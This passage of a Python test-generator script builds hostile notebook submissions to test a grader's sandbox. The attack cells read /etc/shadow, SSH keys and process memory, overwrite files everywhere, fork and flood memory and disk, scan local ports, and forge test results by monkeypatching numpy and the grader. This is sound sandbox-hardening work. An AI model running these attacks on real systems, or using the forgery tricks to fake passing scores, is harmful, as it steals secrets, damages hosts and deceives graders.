"""Generate the hostile-submission notebooks: `python tests/hostile/make_notebooks.py`.

Each notebook is the conv2d_simple reference solution plus ONE attack cell (tagged
`attack`), so only the attack can change its score. The notebooks must only ever be
graded inside the grader's sandbox (never with plain nbclient or --no-sandbox): some of
them read, write, flood or kill whatever they can reach.

Attacks that would *forge* a better score first overwrite the honest work with a wrong
answer (SABOTAGE) and then forge; they are compared with `control_sabotaged`, the same
wrong answer without the forgery: a forgery that worked would score more than it.

Read attacks leave what they found in the global ATTACK_FINDINGS (a JSON string); the
test suite's probe check (added to a temporary copy of the assignment) reads it through
the ordinary witness protocol.

Expectations (see tests/test_hostile.py and docs/security.md):
  full            the attack costs nothing: full marks, like the plain reference
  control         exactly the score of control_sabotaged (the forgery changed nothing)
  at_most_control no more than control_sabotaged (the lie may also cost the honest part)
  nofigure        exactly the score of control_nofigure
  kernel_dies     the attack necessarily kills its own kernel: the score of kernel_exit
                  (only checks that need no kernel pass), and the report says why
  one_timeout     exactly one check times out and scores 0; every other check passes
  forbidden       the forbidden-library check must catch it (a known gap: see docs/security.md)
  neighbour       graded beside the reference solution in a batch of its own: the reference
                  must score and run as it does alone
"""

from __future__ import annotations

import base64
import copy
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
REPO = HERE.parent.parent
REFERENCE = REPO / "solutions" / "conv2d_simple" / "conv2d_simple.ipynb"
OUT = HERE / "notebooks"

DAEMON_MARKER = "HOSTILE_DAEMON_MARKER"
PWNED = "PWNED-hostile"

EXPECTATIONS = (
    "full",
    "control",
    "at_most_control",
    "nofigure",
    "kernel_dies",
    "one_timeout",
    "forbidden",
    "neighbour",
)


@dataclass(frozen=True)
class Attack:
    name: str
    title: str  # one line for docs/security.md
    code: str
    expect: str
    where: str = "end"  # end | after_imports | start
    mentions: tuple[str, ...] = ()  # phrases the student's HTML report must contain
    metadata: dict = field(default_factory=dict)  # notebook metadata overrides
    outputs: tuple = ()  # outputs stored in the attack cell (the grader must clear them)
    extra_cells: tuple[tuple[str, tuple], ...] = ()  # (source, stored outputs) cells after it


def _code(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


SABOTAGE = _code(
    """
    # The honest work is replaced by a wrong answer of the right shape; the forgery below
    # would have to lift this back to full marks.
    def conv2d_simple(input_image, filter, filter_size):
        image = np.asarray(input_image)
        return np.zeros((image.shape[0] - filter_size + 1, image.shape[1] - filter_size + 1))

    horizontal_filtered_image = np.zeros((26, 26))
    vertical_filtered_image = np.zeros((26, 26))
    blur_filtered_image = np.zeros((26, 26))
    sharpen_filtered_image = np.zeros((26, 26))
    """
)

# A 1x1 PNG: a figure the notebook never drew.
FAKE_PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c63f8cfc0f01f0005000201a5f2d3b40000000049454e44ae426082"
    )
).decode()
FAKE_OUTPUTS = (
    {"output_type": "display_data", "data": {"image/png": FAKE_PNG, "text/plain": "<Figure>"}, "metadata": {}},
    {
        "output_type": "display_data",
        "data": {"application/x-grader-witness+json": '{"id": "x", "ok": true, "value": true}'},
        "metadata": {},
    },
    {"output_type": "stream", "name": "stdout", "text": "12 passed in 0.01s\n"},
)

CONTROLS: dict[str, Attack] = {
    "control_sabotaged": Attack(
        "control_sabotaged", "control: the honest work replaced by zeros of the right shape", SABOTAGE, "control"
    ),
    "control_nofigure": Attack(
        "control_nofigure",
        "control: matplotlib switched to a backend that shows nothing",
        "get_ipython().run_line_magic('matplotlib', 'agg')\n",
        "nofigure",
        where="after_imports",
    ),
}

ATTACKS: list[Attack] = [
    # ------------------------------------------------------------------ reading
    Attack(
        "read_filesystem_walk",
        "walk the whole file system (/, /work, /tmp, /home, ...) for tests, solutions, gradebooks, submissions",
        _code(
            """
            import json, os, sys, time
            system = tuple(sorted({"/usr", "/etc", "/proc", "/sys", "/dev", "/root/.pyenv",
                                   os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix)}))
            words = ("hidden", "solution", "gradebook", "sqlite", "assignment", "canary", "secret",
                     "scores", "submission", "conv2d_simple", "result.json", "report")
            needles = (b"def test_", b"CANARY", b"SQLite format 3", b"nbformat", b"assert ", b"secret")
            found = {"outside_system": [], "name_hits": [], "content_hits": [], "files": 0}
            t0 = time.time()
            for root, dirs, files in os.walk("/"):
                if root.startswith(("/proc", "/sys")):
                    dirs[:] = []
                    continue
                inside_system = root.startswith(system)
                for name in files + dirs:
                    path = os.path.join(root, name)
                    found["files"] += 1
                    if not inside_system:
                        found["outside_system"].append(path)
                    elif any(w in path.lower() for w in words) and len(found["name_hits"]) < 300:
                        found["name_hits"].append(path)
                    if inside_system or name in dirs:
                        continue
                    try:
                        if os.path.getsize(path) > 4_000_000:
                            continue
                        with open(path, "rb") as fh:
                            data = fh.read()
                    except OSError:
                        continue
                    for needle in needles:
                        i = data.find(needle)
                        if i >= 0 and len(found["content_hits"]) < 100:
                            snippet = data[max(0, i - 80): i + 160].decode("utf-8", "replace")
                            found["content_hits"].append([path, snippet])
            found["outside_system"] = found["outside_system"][:500]
            found["seconds"] = round(time.time() - t0, 2)
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    Attack(
        "read_proc",
        "read /proc of every visible process: cmdline, environ, cwd, root (/proc/1/root), fd, maps, mem",
        _code(
            """
            import json, os
            found = {"pids": [], "readable": {}, "denied": []}
            for entry in sorted(os.listdir("/proc")):
                if not entry.isdigit():
                    continue
                found["pids"].append(int(entry))
                for what in ("cmdline", "environ", "status", "maps", "mountinfo", "cgroup", "stack",
                             "cwd", "root", "exe", "fd", "mem"):
                    path = f"/proc/{entry}/{what}"
                    try:
                        if what in ("cwd", "root", "fd"):
                            value = " ".join(sorted(os.listdir(path)))
                        elif what == "exe":
                            value = os.readlink(path)
                        else:
                            with open(path, "rb") as fh:
                                value = fh.read(4000).decode("utf-8", "replace")
                        found["readable"][path] = value[:1500]
                    except OSError as exc:
                        found["denied"].append(f"{path}: {exc.strerror}")
            for path in ("/proc/1/root/work", "/proc/1/root/tmp", "/proc/1/cwd/", "/proc/self/root/work/main",
                         "/proc/net/unix", "/proc/net/tcp", "/proc/mounts", "/proc/self/cgroup"):
                try:
                    if path.endswith(("work", "tmp", "/", "main")):
                        value = " ".join(os.listdir(path))
                    else:
                        value = open(path).read(4000)
                    found["readable"][path] = value[:1500]
                except OSError as exc:
                    found["denied"].append(f"{path}: {exc.strerror}")
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    Attack(
        "read_environment",
        "read environment variables (own and other processes') for secrets and host paths",
        _code(
            """
            import json, os
            found = {"environ": dict(os.environ)}
            for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
                try:
                    found[path] = open(path, "rb").read().decode("utf-8", "replace")
                except OSError as exc:
                    found[path] = f"denied: {exc.strerror}"
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    Attack(
        "read_known_paths",
        "open the paths where the grader's repository, hidden tests, solutions, gradebook and reports live",
        _code(
            """
            import glob, json, os, sys
            paths = [
                "/etc/shadow", "/etc/sudoers", "/root/.bash_history", "/root/.ssh/id_rsa",
                "/root/.pyenv/version", "/proc/1/cwd/tests", "/data", "/work", "/work/shared/DESIGN.md",
            ]
            # the grader's own virtual environment usually lives inside its checkout
            for repo in sorted({"/work/main", os.path.dirname(os.path.realpath(sys.prefix))}):
                paths += [
                    f"{repo}/assignments/conv2d_simple/tests/hidden/test_conv2d_simple_hidden.py",
                    f"{repo}/assignments/conv2d_simple/assignment.toml",
                    f"{repo}/solutions/conv2d_simple/conv2d_simple.ipynb",
                    f"{repo}/.grader/gradebook.sqlite", f"{repo}/grader/witness.py",
                    f"{repo}/reports", repo, os.path.dirname(repo), f"/proc/1/root{repo}",
                ]
            for pattern in ("/tmp/**", "/work/**", "/home/**", "/var/**", "/run/**", "/mnt/*", "/opt/*",
                            "/srv/*", "/media/*", "/data/*"):
                paths += glob.glob(pattern, recursive=True)[:200]
            found = {"readable": {}, "listed": {}, "denied": {}}
            for path in paths:
                try:
                    if os.path.isdir(path):
                        found["listed"][path] = sorted(os.listdir(path))[:50]
                    else:
                        with open(path, "rb") as fh:
                            found["readable"][path] = fh.read(300).decode("utf-8", "replace")
                except OSError as exc:
                    found["denied"][path] = exc.strerror
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    Attack(
        "read_grader_package",
        "import the grader itself (installed in the same venv) to find the assignment, tests and gradebook",
        _code(
            """
            import importlib, importlib.metadata, json
            found = {}
            for name in ("grader", "grader.spec", "grader.gradebook", "grader.witness"):
                try:
                    module = importlib.import_module(name)
                    found[name] = getattr(module, "__file__", "?")
                except Exception as exc:
                    found[name] = f"{type(exc).__name__}: {exc}"
            try:
                dist = importlib.metadata.distribution("grader")
                found["dist_files"] = [str(f) for f in (dist.files or [])][:50]
                found["direct_url"] = dist.read_text("direct_url.json")
            except Exception as exc:
                found["dist"] = f"{type(exc).__name__}: {exc}"
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    Attack(
        "spy_witness_requests",
        "wrap the witness's kernel half to log every question the checks ask (inputs, names, config)",
        _code(
            """
            import base64, json, sys
            _w = sys.modules["_grader_witness"]
            _real = _w.handle
            _log = {"config": dict(_w.config), "requests": []}
            ATTACK_FINDINGS = json.dumps(_log)

            def _spy(blob):
                global ATTACK_FINDINGS
                request = json.loads(base64.b64decode(blob))
                logged = {}
                for key, value in request.items():
                    plain = key in ("op", "name", "forbid", "id")
                    logged[key] = value if plain else str(value)[:200]
                _log["requests"].append(logged)
                ATTACK_FINDINGS = json.dumps(_log)
                return _real(blob)

            _w.handle = _spy
            """
        ),
        "full",
    ),
    Attack(
        "read_kernel_memory",
        "search the kernel's own memory (gc objects, /proc/self/mem) for test source or expected values",
        _code(
            """
            import base64, gc, json, re, sys
            needles = (b"def test_", b"_reference(", b"CANARY", b"expected", b"hidden")
            _w = sys.modules["_grader_witness"]
            _real = _w.handle

            def _scan():
                found = {"gc_hits": [], "mem_hits": [], "mem_bytes": 0}
                for obj in gc.get_objects():
                    if isinstance(obj, dict):
                        values = [v for v in obj.values() if isinstance(v, str)]
                    elif isinstance(obj, (list, tuple)):
                        values = [v for v in obj if isinstance(v, str)]
                    else:
                        continue
                    for v in values:
                        if ("def test_" in v or "_reference(" in v or "CANARY" in v) and len(found["gc_hits"]) < 30:
                            found["gc_hits"].append(v[:300])
                with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as mem:
                    for line in maps:
                        parts = line.split()
                        lo, hi = (int(x, 16) for x in parts[0].split("-"))
                        if "rw" not in parts[1] or hi - lo > 256 << 20 or found["mem_bytes"] > 600 << 20:
                            continue
                        try:
                            mem.seek(lo)
                            chunk = mem.read(hi - lo)
                        except (OSError, ValueError, OverflowError):
                            continue
                        found["mem_bytes"] += len(chunk)
                        for needle in needles[:3]:
                            for m in re.finditer(re.escape(needle), chunk):
                                if len(found["mem_hits"]) < 40:
                                    snippet = chunk[max(0, m.start() - 60): m.start() + 120]
                                    found["mem_hits"].append(snippet.decode("utf-8", "replace"))
                return found

            def _handle(blob):
                global ATTACK_FINDINGS
                request = json.loads(base64.b64decode(blob))
                if request.get("name") == "ATTACK_FINDINGS" and request.get("op") == "has":
                    ATTACK_FINDINGS = json.dumps(_scan())  # after every other check asked its questions
                return _real(blob)

            ATTACK_FINDINGS = json.dumps(_scan())
            _w.handle = _handle
            """
        ),
        "full",
    ),
    Attack(
        "ptrace_parent",
        "ptrace / process_vm_readv / /proc/<pid>/mem on the sandbox's init and parent",
        _code(
            """
            import ctypes, json, os
            libc = ctypes.CDLL(None, use_errno=True)
            libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
            libc.ptrace.restype = ctypes.c_long
            found = {"ppid": os.getppid(), "ptrace": {}, "mem": {}, "vm_readv": {}}
            for pid in sorted({1, os.getppid()}):
                for label, request in (("attach", 16), ("seize", 0x4206)):
                    ctypes.set_errno(0)
                    rc = libc.ptrace(request, pid, None, None)
                    found["ptrace"][f"{label} {pid}"] = [rc, os.strerror(ctypes.get_errno())]
                    if rc == 0:
                        libc.ptrace(17, pid, None, None)
                try:
                    with open(f"/proc/{pid}/mem", "rb") as fh:
                        fh.seek(0x400000)
                        found["mem"][str(pid)] = fh.read(64).hex()
                except OSError as exc:
                    found["mem"][str(pid)] = f"denied: {exc.strerror}"

                class iovec(ctypes.Structure):
                    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

                buf = ctypes.create_string_buffer(64)
                local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 64), iovec(0x400000, 64)
                ctypes.set_errno(0)
                rc = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
                found["vm_readv"][str(pid)] = [rc, os.strerror(ctypes.get_errno())]
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    # ------------------------------------------------------------------ writing
    Attack(
        "write_everywhere",
        "create or replace files in every folder it can reach (results, reports, gradebook, tests)",
        _code(
            f"""
            import json, os, sys
            found = {{"created": [], "replaced": []}}
            for root, dirs, files in os.walk("/"):
                if root.startswith(("/proc", "/sys")):
                    dirs[:] = []
                    continue
                try:
                    fd = os.open(os.path.join(root, "{PWNED}"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
                    os.write(fd, b"owned")
                    os.close(fd)
                    found["created"].append(root)
                except OSError:
                    pass
                for name in files:
                    ours = name.endswith((".sqlite", ".html", ".csv", ".json", ".py", ".toml", ".ipynb"))
                    if ours and not root.startswith("/usr"):
                        try:
                            with open(os.path.join(root, name), "r+b") as fh:
                                fh.write(b"owned")
                            found["replaced"].append(os.path.join(root, name))
                        except OSError:
                            pass
            repo = os.path.dirname(os.path.realpath(sys.prefix))
            for path in (f"{{repo}}/.grader/gradebook.sqlite", f"{{repo}}/reports/conv2d_simple/index.html",
                         "/work/main/.grader/gradebook.sqlite", "/tmp/result.json", "/data/{PWNED}"):
                try:
                    with open(path, "wb") as fh:
                        fh.write(b"owned")
                    found["created"].append(path)
                except OSError:
                    pass
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    # ------------------------------------------------------------------ forging a score
    Attack(
        "forge_stdout",
        "print forged pytest output, score lines and result JSON on stdout, stderr and fd 1, during checks too",
        SABOTAGE
        + _code(
            """
            import os, sys, threading, time
            names = ["test_notes_example_4x4", "test_random_float_images", "test_filtered_images_match_x_train_2"]
            print("============================= test session starts ==============================")
            for n in names:
                print(f"tests/hidden/test_conv2d_simple_hidden.py::{n} PASSED")
            print("============================== 12 passed in 0.42s ===============================")
            print('{"student": "me", "score": 12.0, "max_score": 12.0, "error": null}')
            sys.stderr.write("SCORE 12/12\\n")
            os.write(1, b"12 passed\\n")

            def _spam():
                while True:
                    print("PASSED score=12/12")
                    time.sleep(0.05)

            threading.Thread(target=_spam, daemon=True).start()
            """
        ),
        "control",
    ),
    Attack(
        "forge_witness_display",
        "publish forged witness replies (the protocol's MIME type) from a thread that steals each request id",
        SABOTAGE
        + _code(
            """
            import base64, json, sys, threading, time
            from IPython.display import publish_display_data
            _mime = sys.modules["_grader_witness"].config["mime"]
            publish_display_data({_mime: json.dumps({"id": "guess", "ok": True, "value": True, "passed": True})})

            def _forge():
                main = threading.main_thread().ident
                seen = set()
                while True:
                    frame = sys._current_frames().get(main)
                    while frame is not None:
                        blob = frame.f_locals.get("request_b64")
                        if isinstance(blob, str) and blob not in seen:
                            seen.add(blob)
                            rid = json.loads(base64.b64decode(blob))["id"]
                            publish_display_data({_mime: json.dumps(
                                {"id": rid, "ok": True, "value": {"$float": "nan"}, "passed": True, "score": 12})})
                        frame = frame.f_back
                    time.sleep(0.0005)

            threading.Thread(target=_forge, daemon=True).start()
            """
        ),
        "at_most_control",
    ),
    Attack(
        "patch_numpy",
        "monkeypatch numpy's comparisons (allclose, isclose, array_equal, np.testing) to always agree",
        SABOTAGE
        + _code(
            """
            import numpy, numpy.testing
            always = lambda *a, **k: True
            modules = [numpy]
            core = getattr(numpy, "_core", None) or getattr(numpy, "core", None)
            if core is not None:
                modules.append(core.numeric)
            for mod in modules:
                for name in ("allclose", "array_equal", "array_equiv"):
                    setattr(mod, name, always)
            numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
            for name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_array_almost_equal"):
                setattr(numpy.testing, name, lambda *a, **k: None)
            """
        ),
        "control",
    ),
    Attack(
        "patch_builtins",
        "monkeypatch builtins (AssertionError, all, any, __import__) and hijack the witness import",
        SABOTAGE
        + _code(
            """
            import base64, builtins, json, sys, types
            from IPython.display import publish_display_data
            _mime = sys.modules["_grader_witness"].config["mime"]

            def _fake_handle(blob):
                rid = json.loads(base64.b64decode(blob))["id"]
                publish_display_data({_mime: json.dumps({"id": rid, "ok": True, "value": True, "passed": True})})

            _fake = types.ModuleType("_grader_witness")
            _fake.handle = _fake_handle
            _real_import = builtins.__import__

            def _import(name, *args, **kwargs):
                if name == "_grader_witness":
                    return _fake
                return _real_import(name, *args, **kwargs)

            class _NeverRaised(Exception):
                pass

            builtins.__import__ = _import
            builtins.AssertionError = _NeverRaised
            builtins.all = lambda *a: True
            builtins.any = lambda *a: True
            """
        ),
        "at_most_control",
    ),
    Attack(
        "replace_witness_module",
        "replace sys.modules['_grader_witness'] with a module that answers every question 'passed'",
        SABOTAGE
        + _code(
            """
            import base64, json, sys, types
            from IPython.display import publish_display_data
            _mime = sys.modules["_grader_witness"].config["mime"]

            def _handle(blob):
                request = json.loads(base64.b64decode(blob))
                value = {"$ndarray": ""} if request.get("op") == "call" else True
                publish_display_data({_mime: json.dumps({"id": request["id"], "ok": True, "value": value,
                                                         "forbidden": [], "verdict": "passed", "points": 12})})

            fake = types.ModuleType("_grader_witness")
            fake.handle = _handle
            sys.modules["_grader_witness"] = fake
            """
        ),
        "at_most_control",
    ),
    Attack(
        "patch_sys_modules",
        "replace numpy, json, pytest and grader in sys.modules and add an import hook serving fakes",
        SABOTAGE
        + _code(
            """
            import importlib.abc, importlib.machinery, sys, types
            for name in ("numpy", "json", "pytest", "_pytest", "grader", "grader.witness", "base64"):
                fake = types.ModuleType(name)
                fake.allclose = lambda *a, **k: True
                fake.dumps = lambda *a, **k: '{"ok": true, "passed": true}'
                fake.score = 12
                sys.modules[name] = fake

            class _Finder(importlib.abc.MetaPathFinder):
                def find_spec(self, fullname, path, target=None):
                    if fullname.split(".")[0] in ("grader", "pytest", "_pytest"):
                        return importlib.machinery.ModuleSpec(fullname, None)
                    return None

            sys.meta_path.insert(0, _Finder())
            """
        ),
        "control",
    ),
    Attack(
        "stored_outputs",
        "ship a figure, a witness reply and '12 passed' as stored outputs, while drawing no figure",
        "get_ipython().run_line_magic('matplotlib', 'agg')\n",
        "nofigure",
        where="after_imports",
        outputs=FAKE_OUTPUTS,
        extra_cells=(("   \n", FAKE_OUTPUTS),),
    ),
    # ------------------------------------------------------------------ lying values
    Attack(
        "lie_eq_object",
        "return objects whose __eq__ is always True, with a lying shape/dtype/__array__/__len__",
        _code(
            """
            class Liar:
                shape = (26, 26)
                dtype = np.dtype("float64")
                ndim, size = 2, 676
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __bool__(self): return True
                def __len__(self): return 26
                def __float__(self): return 0.0
                def __getitem__(self, i): return self
                def __array__(self, dtype=None, copy=None): return np.zeros((26, 26))
                def __repr__(self): return "array([[...]])"

            def conv2d_simple(input_image, filter, filter_size):
                return Liar()

            horizontal_filtered_image = vertical_filtered_image = Liar()
            blur_filtered_image = sharpen_filtered_image = Liar()
            """
        ),
        "at_most_control",
    ),
    Attack(
        "lie_ndarray_subclass",
        "return ndarray subclasses whose shape, nbytes, __eq__, tolist and astype lie",
        _code(
            """
            class Lying(np.ndarray):
                claimed = (26, 26)
                @property
                def shape(self): return self.claimed
                @property
                def nbytes(self): return 0
                def __eq__(self, other): return np.ones(self.claimed, dtype=bool)
                def tolist(self): return np.zeros(self.claimed).tolist()
                def astype(self, *a, **k): return np.zeros(self.claimed)

            def _liar(claimed):
                out = np.zeros((1, 1)).view(Lying)
                out.claimed = claimed
                return out

            def conv2d_simple(input_image, filter, filter_size):
                image = np.asarray(input_image)
                return _liar((image.shape[0] - filter_size + 1, image.shape[1] - filter_size + 1))

            horizontal_filtered_image = _liar((26, 26))
            vertical_filtered_image = _liar((26, 26))
            blur_filtered_image = _liar((26, 26))
            sharpen_filtered_image = _liar((26, 26))
            """
        ),
        "at_most_control",
    ),
    Attack(
        "lie_array_protocol",
        "objects that pretend to be ndarrays: __class__ = ndarray, __array_interface__, __array__ by caller",
        _code(
            """
            import inspect

            class Pretender:
                @property
                def __class__(self): return np.ndarray
                @property
                def __array_interface__(self):
                    return {"shape": (26, 26), "typestr": "<f8", "data": (0, False), "version": 3}
                def __array__(self, dtype=None, copy=None):
                    caller = inspect.stack()[1].filename
                    return np.full((26, 26), 1e300 if "grader" in caller else 0.0)

            def conv2d_simple(input_image, filter, filter_size):
                return Pretender()

            horizontal_filtered_image = vertical_filtered_image = Pretender()
            blur_filtered_image = sharpen_filtered_image = Pretender()
            """
        ),
        "at_most_control",
    ),
    Attack(
        "lie_scalars_and_dtypes",
        "float subclasses equal to everything, object/structured/complex/datetime arrays",
        _code(
            """
            class AlwaysEqual(float):
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                __hash__ = float.__hash__

            def conv2d_simple(input_image, filter, filter_size):
                image = np.asarray(input_image)
                shape = (image.shape[0] - filter_size + 1, image.shape[1] - filter_size + 1)
                return np.array([AlwaysEqual(0)] * (shape[0] * shape[1]), dtype=object).reshape(shape)

            horizontal_filtered_image = np.zeros((26, 26), dtype=[("x", "f8"), ("y", "f8")])
            vertical_filtered_image = np.zeros((26, 26), dtype=complex)
            blur_filtered_image = np.zeros((26, 26), dtype="datetime64[s]")
            sharpen_filtered_image = AlwaysEqual(0.0)
            """
        ),
        "at_most_control",
    ),
    Attack(
        "huge_value",
        "return values too big for the reply cap: a 1 GB array, a 60 MB string, millions of parts",
        _code(
            """
            def conv2d_simple(input_image, filter, filter_size):
                return np.zeros((12000, 12000))  # 1.1 GB, never touched

            horizontal_filtered_image = "x" * (60 << 20)
            vertical_filtered_image = [0.0] * 3_000_000
            blur_filtered_image = {i: i for i in range(2_000_000)}
            sharpen_filtered_image = np.ones(7_000_000)
            """
        ),
        "at_most_control",
    ),
    Attack(
        "recursive_value",
        "return self-referencing and 100,000-deep structures",
        _code(
            """
            loop = []
            loop.append(loop)
            cyclic = {}
            cyclic["self"] = cyclic
            deep = []
            for _ in range(100_000):
                deep = [deep]

            def conv2d_simple(input_image, filter, filter_size):
                return loop

            horizontal_filtered_image = cyclic
            vertical_filtered_image = deep
            blur_filtered_image = (loop, cyclic)
            sharpen_filtered_image = loop
            """
        ),
        "at_most_control",
    ),
    # ------------------------------------------------------------------ resources
    Attack(
        "endless_loop",
        "an endless loop in one cell (the cells after it must still run)",
        "while True:\n    pass\n",
        "full",
        where="after_imports",
        mentions=("stopped at the cell time limit",),
    ),
    Attack(
        "endless_loop_uninterruptible",
        "an endless loop that ignores SIGINT and swallows KeyboardInterrupt",
        _code(
            """
            import signal, time
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                try:
                    time.sleep(0.5)
                except BaseException:
                    pass
            """
        ),
        "kernel_dies",
        mentions=("did not respond to an interrupt and was stopped",),
    ),
    Attack(
        "background_thread",
        "endless background threads (a busy loop and a printer) that keep running during the checks",
        _code(
            """
            import threading, time

            def _spin():
                while True:
                    pass

            def _chatter():
                while True:
                    print("still here")
                    time.sleep(0.1)

            for target in (_spin, _chatter):
                threading.Thread(target=target, daemon=True).start()
            """
        ),
        "full",
    ),
    Attack(
        "memory_flood",
        "allocate and touch memory until something gives",
        _code(
            """
            chunks = []
            while True:
                chunks.append(b"\\1" * (64 << 20))
            """
        ),
        "kernel_dies",
        mentions=("memory limit",),
    ),
    Attack(
        "disk_flood",
        "fill the disk: one file over the size limit, /tmp until full, the host-backed connection folder",
        _code(
            """
            import glob, json, os, resource, sys
            found = {}

            def fill(path, total, chunk=8 << 20):
                written, error = 0, None
                block = b"\\1" * chunk
                try:
                    with open(path, "wb") as fh:
                        while written < total:
                            fh.write(block)
                            fh.flush()
                            written += chunk
                except OSError as exc:
                    error = exc.strerror
                return written, error

            found["big_file"] = fill(os.path.expanduser("~/big.bin"), 512 << 20)
            os.remove(os.path.expanduser("~/big.bin"))
            total, error, i = 0, None, 0
            while total < (2 << 30) and error is None:
                written, error = fill(f"/tmp/fill{i}.bin", 32 << 20)
                total, i = total + written, i + 1
            found["tmp"] = [total, error]
            for name in glob.glob("/tmp/fill*.bin"):
                os.remove(name)
            found["conn"] = {}
            connection_file = sys.argv[sys.argv.index("-f") + 1]  # the kernel's own command line
            for folder in [os.path.dirname(connection_file)]:
                total, error, i = 0, None, 0
                while total < (320 << 20) and error is None:  # bounded: this may be the host's disk
                    written, error = fill(f"{folder}/fill{i}.bin", 32 << 20)
                    total, i = total + written, i + 1
                found["conn"][folder] = [total, error]
                for name in glob.glob(f"{folder}/fill*.bin"):
                    os.remove(name)
            try:
                resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                found["raise_fsize"] = "raised"
            except (ValueError, OSError) as exc:
                found["raise_fsize"] = f"refused: {exc}"
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
    Attack(
        "fork_flood",
        "fork until the system refuses; the children sleep forever",
        _code(
            """
            import json, os, time
            children, error = 0, None
            for _ in range(5000):
                try:
                    pid = os.fork()
                except OSError as exc:
                    error = exc.strerror
                    break
                if pid == 0:
                    try:
                        time.sleep(3600)
                    finally:
                        os._exit(0)
                children += 1
            ATTACK_FINDINGS = json.dumps({"children": children, "error": error})
            """
        ),
        "full",
    ),
    Attack(
        "output_flood",
        "print 40 MB of output",
        _code(
            """
            import sys
            line = "flood " * 20000 + "\\n"
            for _ in range(330):
                sys.stdout.write(line)
            """
        ),
        "full",
        mentions=("was dropped",),
    ),
    Attack(
        "giant_message",
        "print 160 MB in one call: one message that the grader would have to read whole",
        _code(
            """
            print("x" * (160 * 1024 * 1024))
            """
        ),
        "full",
        mentions=("refused",),
    ),
    Attack(
        "leave_processes",
        "leave daemons behind: a new session, a double fork, nohup &",
        _code(
            f"""
            import os, subprocess, sys
            sleeper = [sys.executable, "-c", "import time; time.sleep(3600)", "{DAEMON_MARKER}"]
            subprocess.Popen(sleeper, start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    devnull = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(devnull, fd)
                    os.execv(sys.executable, sleeper)
                os._exit(0)
            os.wait()
            os.system(f"nohup {{sys.executable}} -c 'import time; time.sleep(3600)' {DAEMON_MARKER} >/dev/null 2>&1 &")
            """
        ),
        "full",
    ),
    Attack(
        "stdin_block",
        "wait for keyboard input (input, getpass, sys.stdin.read)",
        _code(
            """
            import getpass, sys
            for ask in (lambda: input("password: "), getpass.getpass, lambda: sys.stdin.read()):
                try:
                    ask()
                except Exception as exc:
                    print(type(exc).__name__)
            """
        ),
        "full",
    ),
    # ------------------------------------------------------------------ escaping
    Attack(
        "network",
        "reach the internet (8.8.8.8, DNS) and every 127.0.0.1 port of the host, UDP and unix sockets",
        _code(
            """
            import json, os, socket, time
            found = {"interfaces": [n for _, n in socket.if_nameindex()], "connected": [], "errors": {},
                     "open_local": []}
            for host, port in (("8.8.8.8", 53), ("8.8.8.8", 443), ("1.1.1.1", 80)):
                s = socket.socket()
                s.settimeout(2)
                try:
                    s.connect((host, port))
                    found["connected"].append(f"{host}:{port}")
                except OSError as exc:
                    found["errors"][f"{host}:{port}"] = exc.strerror or type(exc).__name__
                finally:
                    s.close()
            try:
                found["dns"] = str(socket.getaddrinfo("example.com", 80)[:1])
            except OSError as exc:
                found["dns"] = f"failed: {exc}"
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                u.sendto(b"hello", ("8.8.8.8", 53))
                u.settimeout(1)
                found["udp"] = str(u.recvfrom(100))
            except OSError as exc:
                found["udp"] = f"failed: {exc.strerror or exc}"
            own = set()  # ports this kernel itself listens on (its own network namespace)
            for table in ("/proc/net/tcp", "/proc/net/tcp6"):
                for row in open(table).read().splitlines()[1:]:
                    fields = row.split()
                    if fields[3] == "0A":
                        own.add(int(fields[1].rsplit(":", 1)[1], 16))
            t0 = time.time()
            scanned = 0
            for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
                for port in range(1, 65536):
                    if time.time() - t0 > 7:
                        break
                    s = socket.socket(family, socket.SOCK_STREAM)
                    s.settimeout(0.2)
                    try:
                        # a connect to an ephemeral port can meet itself (TCP simultaneous open)
                        if s.connect_ex((host, port)) == 0 and s.getsockname() != s.getpeername() and port not in own:
                            found["open_local"].append(f"{host}:{port}")
                    except OSError:
                        pass
                    finally:
                        s.close()
                    scanned += 1
            found["scanned"] = scanned
            found["own_listeners"] = sorted(own)
            for path in ("/proc/net/unix", "/proc/net/tcp", "/proc/net/tcp6", "/etc/hosts"):
                try:
                    found[path] = open(path).read(3000)
                except OSError as exc:
                    found[path] = f"denied: {exc.strerror}"
            ATTACK_FINDINGS = json.dumps(found)
            """
        ),
        "full",
    ),
